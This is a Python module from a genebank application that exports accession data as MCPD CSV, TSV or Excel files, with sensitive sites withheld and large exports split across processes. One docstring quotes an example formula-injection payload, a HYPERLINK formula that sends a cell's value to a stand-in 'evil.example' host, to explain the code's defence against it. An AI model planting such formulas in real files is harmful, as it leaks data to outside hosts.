"""MCPD export: the MCPD rows of accessions, written as CSV, TSV or Excel, in two processes for a large export."""

from __future__ import annotations

import csv
import logging
import os
import shutil
import tempfile
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

from django.core.exceptions import EmptyResultSet
from django.db import connection, connections
from django.db.models import Count
from django.utils.translation import gettext as _

from genebank.accessions.models import (
    Accession,
    AccessionIdentifier,
    AccessionName,
    CollectingEvent,
)
from genebank.accessions.registries import mcpd_fields
from genebank.accessions.sensitive import OPERATOR, shows_exact_site, withheld_site
from genebank.core.models import Institute
from genebank.core.spreadsheets import spreadsheet_text
from genebank.exchange.mcpd import (
    FIELDS,
    canonical_decimal,
)
from genebank.exchange.mcpd_checking import BATCH, _from_child, _may_fork
from genebank.exchange.mcpd_row import INDEX

logger = logging.getLogger(__name__)

# --- export ------------------------------------------------------------------------------------

_ROW_FIELDS = [
    "pk",
    "institute__code",
    "number",
    "puid",
    "taxon__genus",
    "taxon__species",
    "taxon__species_author",
    "taxon__subtaxa",
    "taxon__subtaxa_author",
    "crop_name",
    "acquisition_date",
    "origin_country_id",
    "sample_status",
    "ancestry",
    "breeder_name",
    "mls_status",
    "storage_codes",
    "duplicate_site_codes",
    "duplicate_site_names",
    "remarks",
    "sensitive_location",
    "collecting_event__id",
    "collecting_event__collector_number",
    "collecting_event__collecting_institute_name",
    "collecting_event__collecting_institute_address",
    "collecting_event__mission_code",
    "collecting_event__mission__code",
    "collecting_event__site",
    "collecting_event__latitude",
    "collecting_event__longitude",
    "collecting_event__latitude_dms",
    "collecting_event__longitude_dms",
    "collecting_event__coordinate_uncertainty",
    "collecting_event__datum",
    "collecting_event__georeference_method",
    "collecting_event__elevation",
    "collecting_event__date",
    "collecting_event__source",
    "acquisition__donor_institute__code",
    "acquisition__donor_name",
    "acquisition__donor_person__name",
    "acquisition__donor_number",
]


def _text(value) -> str:
    if value is None:
        return ""
    return str(value)


def _grouped(pairs: Iterable[tuple[int, str]]) -> dict[int, str]:
    """Values per key, joined with ';' as MCPD lists them."""
    groups: dict[int, list[str]] = {}
    for key, value in pairs:
        groups.setdefault(key, []).append(value)
    return {key: ";".join(values) for key, values in groups.items()}


def iter_mcpd_rows(
    queryset,
    public_only: bool = False,
    with_pk: bool = False,
    derived: bool = True,
    parts: list[tuple[int, int | None, int | None]] | None = None,
    user=OPERATOR,
) -> Iterator:
    """MCPD rows (lists of 41 texts in the standard order) of the accessions, streamed in chunks.

    Sensitive sites are withheld as accessions.sensitive rules for this user (by default the
    operator: the command line, the importer's comparisons and the PDCI see them exactly), and
    always with public_only. A web download passes the user who asked for it.

    Rows come by institute, then in the order the accessions were registered: an import keeps
    the order of its file, so an export imported into an empty database exports the same again
    (an order by number would depend on each database's accession number pattern).

    Fields that higher apps derive (accessions.registries.mcpd_fields: STORAGE from the seed
    lots of accessions that have any) replace the stored text (derived); the importer compares a
    file with what it stored itself (derived=False), so that a second import changes nothing.

    parts, from _export_parts or _export_halves, limits the rows to (institute id, first pk,
    pk to stop before) ranges, in that order; by default every row of the queryset.

    The SQL comes from the ORM (joins, filters) but runs on a chunked cursor without the ORM's
    per-value converters, and the names, numbers and codes of each chunk come in one plain
    query each: at 200,000 accessions the converters alone would double the time.
    """
    # No query per chunk for a field that derives nothing at all (no seed lots yet).
    fields = [f for f in mcpd_fields if f.in_use()] if derived else []
    if parts is None:
        parts = _export_parts(queryset)
    for institute_id, start, stop in parts:
        # The rule depends on the institute only, and every part is one institute's.
        withhold = not shows_exact_site(user, institute_id, True, public=public_only)
        query = queryset.filter(institute_id=institute_id)
        if start is not None:
            query = query.filter(pk__gte=start)
        if stop is not None:
            query = query.filter(pk__lt=stop)
        sql, params = query.order_by("pk").values_list(*_ROW_FIELDS).query.sql_with_params()
        cursor = connection.chunked_cursor()
        try:
            cursor.execute(sql, params)
            while chunk := cursor.fetchmany(BATCH):
                yield from _mcpd_chunk(chunk, withhold, with_pk, fields)
        finally:
            cursor.close()


def _export_parts(queryset) -> list[tuple[int, int | None, int | None]]:
    """Every row of the queryset, one part per institute in code order.

    One query per institute, each in primary-key order: the index on the institute gives the
    rows in order, where one query ordered by code would sort them all first.
    """
    try:
        institutes = sorted(
            queryset.order_by().values_list("institute__code", "institute_id").distinct()
        )
    except EmptyResultSet:  # e.g. .none(): no SQL to run
        return []
    return [(institute_id, None, None) for _code, institute_id in institutes]


def _export_halves(queryset) -> tuple[list, list, int]:
    """The parts of the queryset split in two halves of (nearly) the same number of rows."""
    parts = _export_parts(queryset)
    counts = dict(queryset.order_by().values_list("institute_id").annotate(rows=Count("pk")))
    total = sum(counts.values())
    half, seen = total // 2, 0
    for index, (institute_id, _start, _stop) in enumerate(parts):
        rows = counts[institute_id]
        if seen + rows > half:
            offset = half - seen
            if offset == 0:
                return parts[:index], parts[index:], total
            split = (
                queryset.filter(institute_id=institute_id)
                .order_by("pk")
                .values_list("pk", flat=True)[offset]
            )
            return (
                [*parts[:index], (institute_id, None, split)],
                [(institute_id, split, None), *parts[index + 1 :]],
                total,
            )
        seen += rows
    return parts, [], total


def _side_query(sql: str, ids: list[int]) -> list[tuple]:
    if not ids:
        return []
    with connection.cursor() as cursor:
        cursor.execute(sql.format(marks=", ".join(["%s"] * len(ids))), ids)
        return cursor.fetchall()


def _coordinate_text(value) -> str:
    if value is None:
        return ""
    if isinstance(value, (float, int)):
        # SQLite hands back the stored number as a float. The column keeps six places, and a
        # float holds a number of nine significant digits exactly enough for "%.6f" to give
        # those places back: the same text as the Decimal, without making one.
        text = f"{value:.6f}".rstrip("0").rstrip(".")
        return "0" if text in ("-0", "") else text
    return canonical_decimal(value)


SIX_PLACES = Decimal("0.000001")


def _mcpd_chunk(chunk: list[tuple], withhold: bool, with_pk: bool, fields: list) -> Iterator:
    """The rows of one chunk; withhold: replace the sites of sensitive accessions; fields: the
    derived MCPD fields that replace stored text where they derive some."""
    quote = connection.ops.quote_name
    ids = [row[0] for row in chunk]
    event_ids = [row[21] for row in chunk if row[21] is not None]
    names = _grouped(
        _side_query(
            f"SELECT accession_id, name FROM {quote(AccessionName._meta.db_table)} "
            "WHERE accession_id IN ({marks}) ORDER BY accession_id, position, id",
            ids,
        )
    )
    identifiers = _grouped(
        (accession_id, f"{code}:{identifier}")
        for accession_id, code, identifier in _side_query(
            "SELECT accession_id, institute_code, identifier FROM "
            f"{quote(AccessionIdentifier._meta.db_table)} "
            "WHERE accession_id IN ({marks}) ORDER BY accession_id, position, id",
            ids,
        )
    )
    institute_table = quote(Institute._meta.db_table)
    bred = _grouped(
        _side_query(
            f"SELECT t.accession_id, i.code FROM {quote(Accession.breeding_institutes.through._meta.db_table)} t "
            f"JOIN {institute_table} i ON i.id = t.institute_id "
            "WHERE t.accession_id IN ({marks}) ORDER BY t.id",
            ids,
        )
    )
    collectors = _grouped(
        _side_query(
            "SELECT t.collectingevent_id, i.code FROM "
            f"{quote(CollectingEvent.collecting_institutes.through._meta.db_table)} t "
            f"JOIN {institute_table} i ON i.id = t.institute_id "
            "WHERE t.collectingevent_id IN ({marks}) ORDER BY t.id",
            event_ids,
        )
    )
    derived = [(INDEX[f.name], f.values(ids)) for f in fields]
    no_event = ("",) * 16
    withheld = [(INDEX[name], value) for name, value in withheld_site().items()]
    for r in chunk:
        pk = r[0]
        if r[21] is None:
            event = no_event
        else:
            # Text columns of an existing event are never NULL; numbers need str().
            event = (
                r[22],  # COLLNUMB
                collectors.get(r[21], ""),  # COLLCODE
                r[23],  # COLLNAME
                r[24],  # COLLINSTADDRESS
                r[25] or _text(r[26]),  # COLLMISSID
                r[27],  # COLLSITE
                _coordinate_text(r[28]),  # DECLATITUDE
                r[30],  # LATITUDE
                _coordinate_text(r[29]),  # DECLONGITUDE
                r[31],  # LONGITUDE
                _text(r[32]),  # COORDUNCERT
                r[33],  # COORDDATUM
                r[34],  # GEOREFMETH
                _text(r[35]),  # ELEVATION
                r[36],  # COLLDATE
                _text(r[37]),  # COLLSRC
            )
        values = [
            r[3],  # PUID
            r[1],  # INSTCODE
            r[2],  # ACCENUMB
            *event[:5],  # COLLNUMB COLLCODE COLLNAME COLLINSTADDRESS COLLMISSID
            r[4],  # GENUS
            r[5],  # SPECIES
            r[6],  # SPAUTHOR
            r[7],  # SUBTAXA
            r[8],  # SUBTAUTHOR
            r[9],  # CROPNAME
            names.get(pk, ""),  # ACCENAME
            r[10],  # ACQDATE
            r[11] or "",  # ORIGCTY
            *event[5:15],  # COLLSITE ... COLLDATE
            bred.get(pk, ""),  # BREDCODE
            r[14],  # BREDNAME
            _text(r[12]),  # SAMPSTAT
            r[13],  # ANCEST
            event[15],  # COLLSRC
            r[38] or "",  # DONORCODE
            r[39] or r[40] or "",  # DONORNAME
            r[41] or "",  # DONORNUMB
            identifiers.get(pk, ""),  # OTHERNUMB
            r[17],  # DUPLSITE
            r[18],  # DUPLINSTNAME
            r[16],  # STORAGE
            _text(r[15]),  # MLSSTAT
            r[19],  # REMARKS
        ]
        for index, found in derived:
            value = found.get(pk)
            if value:
                values[index] = value
        if withhold and r[20] and r[21] is not None:
            for index, value in withheld:
                values[index] = value
        yield (pk, values) if with_pk else values


EXPORT_FORMATS = ("csv", "tsv", "xlsx")


@dataclass
class ExportResult:
    path: Path
    format: str
    rows: int


def export_mcpd(
    path: str | Path,
    *,
    format: str | None = None,
    institute: str | None = None,
    public_only: bool = False,
    queryset=None,
    user=OPERATOR,
) -> ExportResult:
    """Write the accessions as MCPD v2.1 (41 columns, standard order, UTF-8). Reads only.

    The file is for exchange with other genebanks' software: CSV and TSV keep the values'
    bytes as stored (no spreadsheet escaping, see csv_lines); XLSX cells are all text.
    Sensitive sites as iter_mcpd_rows gives them for this user (by default the operator).
    """
    path = Path(path)
    format = (format or path.suffix.lstrip(".").lower() or "csv").lower()
    if format not in EXPORT_FORMATS:
        raise ValueError(_("Unknown export format %(format)s.") % {"format": format})
    if queryset is None:
        queryset = Accession.objects.all()
    if institute:
        queryset = queryset.filter(institute__code=institute.upper())
    if public_only:
        queryset = queryset.filter(is_public=True)
    if format == "xlsx":
        count = write_xlsx(path, iter_mcpd_rows(queryset, public_only=public_only, user=user))
    else:
        # Two processes only from a single-threaded process outside a transaction (the
        # command line), and only when there is enough to share.
        halves = (
            _export_halves(queryset) if _may_fork() and not connection.in_atomic_block else None
        )
        if halves is not None and halves[2] >= PARALLEL_EXPORT_ROWS and halves[1]:
            count = _export_in_two(path, format, queryset, public_only, user, *halves[:2])
        else:
            with open(path, "w", encoding="utf-8", newline="") as fh:
                rows = iter_mcpd_rows(queryset, public_only=public_only, user=user)
                count = _write_delimited(fh, format, rows)
    return ExportResult(path, format, count)


def write_xlsx(target, rows: Iterable[list]) -> int:
    """MCPD rows as a workbook (sheet MCPD, header first), written as they come; target: a path
    or a binary file. Returns the number of rows.

    Every value is written as text. openpyxl (3.1.5, Cell._bind_value) stores a str that starts
    with "=" as a formula and one that spells an error code ("#N/A") as an error: a name such as
    =HYPERLINK("http://evil.example/?d="&B2,"Open") would become a live formula in whoever
    opens the file. Those values go in a cell whose type is set back to text after binding.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("MCPD")
    sheet.append(FIELDS)

    def as_text(value):
        # Only the few values openpyxl might not keep as text (every error code starts with
        # "#") get a cell of their own: a cell object per value would slow a large export.
        if isinstance(value, str) and value.startswith(("=", "#")):
            cell = WriteOnlyCell(sheet, value)
            cell.data_type = "s"
            return cell
        return value

    count = 0
    for values in rows:
        sheet.append([as_text(value) for value in values])
        count += 1
    workbook.save(target)
    return count


class _Line:
    """A file that hands back what csv.writer writes to it."""

    def write(self, text: str) -> str:
        return text


def csv_lines(rows: Iterable[list], bom: bool = True) -> Iterator[str]:
    """MCPD rows as CSV text, line by line, for a download to open in a spreadsheet program.

    The byte order mark makes spreadsheet programs read the file as UTF-8; every value goes
    through spreadsheet_text so that none of them runs as a formula there. (The MCPD exchange
    file of export_mcpd keeps the values' bytes: other genebanks' software reads it.)
    """
    writer = csv.writer(_Line(), lineterminator="\n")
    yield ("\ufeff" if bom else "") + writer.writerow(FIELDS)
    for values in rows:
        yield writer.writerow([spreadsheet_text(value) for value in values])


def _write_delimited(fh, format: str, rows: Iterable[list], header: bool = True) -> int:
    writer = csv.writer(fh, delimiter="\t" if format == "tsv" else ",", lineterminator="\n")
    if header:
        writer.writerow(FIELDS)
    count = 0
    for values in rows:
        writer.writerow(values)
        count += 1
    return count


# A CSV or TSV export of at least this many accessions is written by two processes.
PARALLEL_EXPORT_ROWS = 20_000


def _export_in_two(
    path: Path, format: str, queryset, public_only: bool, user, first, second
) -> int:
    """Write the first half of the rows here while a forked process writes the second half.

    Reading and formatting the rows is Python work on one core; the second core of a small
    server halves the time. The child writes its half to a file beside the output, which is
    appended once both are done. first and second: the halves' parts (_export_halves). Each
    process needs its own database connection, so this one closes its own before forking and
    both open new ones.
    """
    handle, part_name = tempfile.mkstemp(prefix=".genebank-export-", dir=path.parent)
    os.close(handle)
    part = Path(part_name)
    connections.close_all()
    second_half = _from_child(_write_part, part, format, queryset, second, public_only, user)
    try:
        with open(path, "w", encoding="utf-8", newline="") as fh:
            count = _write_delimited(
                fh,
                format,
                iter_mcpd_rows(queryset, public_only=public_only, parts=first, user=user),
            )
        count += sum(second_half)
        with open(path, "ab") as out, open(part, "rb") as rest:
            shutil.copyfileobj(rest, out, 1 << 20)
        return count
    finally:
        second_half.close()
        part.unlink(missing_ok=True)


def _write_part(part: Path, format: str, queryset, parts, public_only: bool, user) -> Iterator[int]:
    with open(part, "w", encoding="utf-8", newline="") as fh:
        rows = iter_mcpd_rows(queryset, public_only=public_only, parts=parts, user=user)
        yield _write_delimited(fh, format, rows, header=False)
